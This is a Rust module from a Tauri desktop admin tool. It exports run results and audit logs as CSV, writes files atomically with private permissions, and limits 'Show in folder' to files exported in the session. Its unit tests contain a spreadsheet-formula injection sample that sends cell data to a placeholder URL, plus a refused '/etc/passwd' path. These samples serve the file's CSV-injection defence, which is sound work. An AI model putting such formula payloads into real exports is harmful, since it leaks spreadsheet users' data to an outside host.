//! Files the admin exports (run results, the audit log): CSV quoting, the OS save dialog,
//! writing without leaving half a file, and "Show in folder" for what this session exported.

use aadsync_ipc::IpcError;
use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use tauri::Manager;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV field, quoted when it has to be (RFC 4180). A field starting with a formula trigger
/// (a group anyone may create named `=HYPERLINK(…)`) gets a leading `'` and quotes, so a
/// spreadsheet shows it as text instead of running it.
pub fn csv_field(text: &str) -> String {
    let formula = text.starts_with(FORMULA_TRIGGERS);
    if formula || text.contains([',', '"', '\n', '\r']) {
        let prefix = if formula { "'" } else { "" };
        format!("\"{prefix}{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// What the save dialog offers: a file name and one file type.
#[derive(Debug, Clone)]
pub struct Offer {
    pub file_name: String,
    pub type_label: &'static str,
    pub extension: &'static str,
}

/// Asks where to save through the OS save dialog, opened in Downloads with `offer`'s name
/// (the dialog asks before replacing a file). `None`: the admin cancelled.
pub async fn ask_path<R: tauri::Runtime>(
    app: &tauri::AppHandle<R>,
    offer: Offer,
) -> Result<Option<PathBuf>, IpcError> {
    use tauri_plugin_dialog::DialogExt;
    let mut dialog = app
        .dialog()
        .file()
        .set_title("Export")
        .set_file_name(&offer.file_name)
        .add_filter(offer.type_label, &[offer.extension]);
    if let Ok(dir) = app.path().download_dir().or_else(|_| app.path().home_dir()) {
        dialog = dialog.set_directory(dir);
    }
    let (tx, rx) = tokio::sync::oneshot::channel();
    dialog.save_file(move |chosen| {
        let _ = tx.send(chosen);
    });
    let chosen = rx
        .await
        .map_err(|_| IpcError::internal("The save dialog closed without an answer"))?;
    chosen
        .map(|path| {
            path.into_path().map_err(|e| {
                IpcError::new(
                    aadsync_ipc::ErrorCode::InvalidInput,
                    format!(
                        "That place cannot be saved to ({e}): choose a folder on this computer"
                    ),
                )
            })
        })
        .transpose()
}

/// Writes `content` to `path`, replacing what is there only once the whole file is written:
/// a temporary file next to it (0600 on Unix, an export holds the directory's names and
/// addresses), then a rename.
pub fn write_replacing(path: &Path, content: &str) -> Result<(), IpcError> {
    use std::io::Write;
    let cannot =
        |e: std::io::Error| IpcError::internal(format!("Cannot write {}: {e}", path.display()));
    let name = path.file_name().ok_or_else(|| {
        IpcError::new(
            aadsync_ipc::ErrorCode::InvalidInput,
            "Choose a file name to save to",
        )
    })?;
    let mut partial = name.to_owned();
    partial.push(format!(".{}.partial", std::process::id()));
    let temporary = path.with_file_name(partial);
    let written = aadsync_store::private::create_new(&temporary)
        .and_then(|mut file| {
            file.write_all(content.as_bytes())
                .and_then(|()| file.sync_all())
        })
        .and_then(|()| std::fs::rename(&temporary, path));
    if written.is_err() {
        let _ = std::fs::remove_file(&temporary);
    }
    written.map_err(cannot)
}

/// The files exported in this session: "Show in folder" opens a file manager on these only,
/// never on a path the web view names.
#[derive(Debug, Default)]
pub struct Exported(Mutex<HashSet<PathBuf>>);

impl Exported {
    pub fn remember(&self, path: &Path) {
        if let Ok(mut paths) = self.0.lock() {
            paths.insert(path.to_path_buf());
        }
    }

    /// `path` if this session exported it.
    pub fn check(&self, path: &str) -> Result<PathBuf, IpcError> {
        let path = PathBuf::from(path);
        let known = self.0.lock().map(|p| p.contains(&path)).unwrap_or(false);
        if known {
            Ok(path)
        } else {
            Err(IpcError::new(
                aadsync_ipc::ErrorCode::InvalidInput,
                "Only a file exported in this session can be shown in its folder",
            ))
        }
    }
}

/// Asks the desktop's file manager to show `path` selected in its folder.
pub fn reveal<R: tauri::Runtime>(app: &tauri::AppHandle<R>, path: &Path) -> Result<(), IpcError> {
    use tauri_plugin_opener::OpenerExt;
    app.opener().reveal_item_in_dir(path).map_err(|e| {
        IpcError::new(
            aadsync_ipc::ErrorCode::DesktopUnavailable,
            format!(
                "No file manager answered ({e}). The file is at {}",
                path.display()
            ),
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_field_starting_with_a_formula_trigger_is_text() {
        let cases = [
            (
                "=HYPERLINK(\"https://x/?\"&A1,\"open\")",
                "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"open\"\")\"",
            ),
            ("+1+2", "\"'+1+2\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
        ];
        for (text, expected) in cases {
            assert_eq!(csv_field(text), expected, "{text:?}");
        }
        for trigger in FORMULA_TRIGGERS {
            assert!(
                csv_field(&format!("{trigger}x")).starts_with("\"'"),
                "{trigger:?}"
            );
        }
    }

    /// An export and the log folder and files are 0600 / 0700 under umask 022 (issue 14).
    #[cfg(unix)]
    #[test]
    fn an_export_and_the_logs_are_private_under_umask_022() {
        use std::os::unix::fs::PermissionsExt;
        if !aadsync_testenv::under_umask_022(
            "export::tests::an_export_and_the_logs_are_private_under_umask_022",
        ) {
            return;
        }
        let mode = |p: &std::path::Path| {
            std::fs::metadata(p)
                .map(|m| m.permissions().mode() & 0o777)
                .unwrap_or_default()
        };
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let control = dir.path().join("control");
        let _ = std::fs::write(&control, "");
        assert_eq!(mode(&control), 0o644, "the umask is not 022");
        // A new export, and one replacing a file the admin had made readable to others.
        let export = dir.path().join("run.csv");
        let replaced = dir.path().join("old.csv");
        let _ = std::fs::write(&replaced, "old");
        assert_eq!(mode(&replaced), 0o644);
        for path in [&export, &replaced] {
            write_replacing(path, "a,b").unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(mode(path), 0o600, "{}", path.display());
        }
        let logs = dir.path().join("logs");
        let _guard = crate::logging::init(&logs).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(mode(&logs), 0o700);
        let files: Vec<_> = std::fs::read_dir(&logs)
            .unwrap_or_else(|e| panic!("{e}"))
            .flatten()
            .map(|e| e.path())
            .collect();
        assert!(!files.is_empty());
        for file in files {
            assert_eq!(mode(&file), 0o600, "{}", file.display());
        }
    }

    #[test]
    fn fields_and_replaced_files() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("Lee, \"Ann\""), "\"Lee, \"\"Ann\"\"\"");
        assert_eq!(csv_field("a-b=c"), "a-b=c");
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let path = dir.path().join("run.csv");
        std::fs::write(&path, "an older, longer export").unwrap_or_else(|e| panic!("{e}"));
        write_replacing(&path, "a").unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(std::fs::read_to_string(&path).ok().as_deref(), Some("a"));
        // Nothing else is left next to it, and a folder that does not exist is an error.
        let names: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap_or_else(|e| panic!("{e}"))
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert_eq!(names, ["run.csv"]);
        let missing = dir.path().join("gone").join("run.csv");
        let err = write_replacing(&missing, "a").err().map(|e| e.message);
        assert!(err.is_some_and(|m| m.contains("Cannot write")));
    }

    #[test]
    fn only_files_this_session_exported_are_shown() {
        let exported = Exported::default();
        exported.remember(Path::new("/home/a/run.csv"));
        assert!(exported.check("/home/a/run.csv").is_ok());
        for other in ["/home/a/run.csv/..", "/etc/passwd", "/home/a/other.csv", ""] {
            let refused = exported.check(other).err();
            assert_eq!(
                refused.map(|e| e.code),
                Some(aadsync_ipc::ErrorCode::InvalidInput),
                "{other}"
            );
        }
    }
}
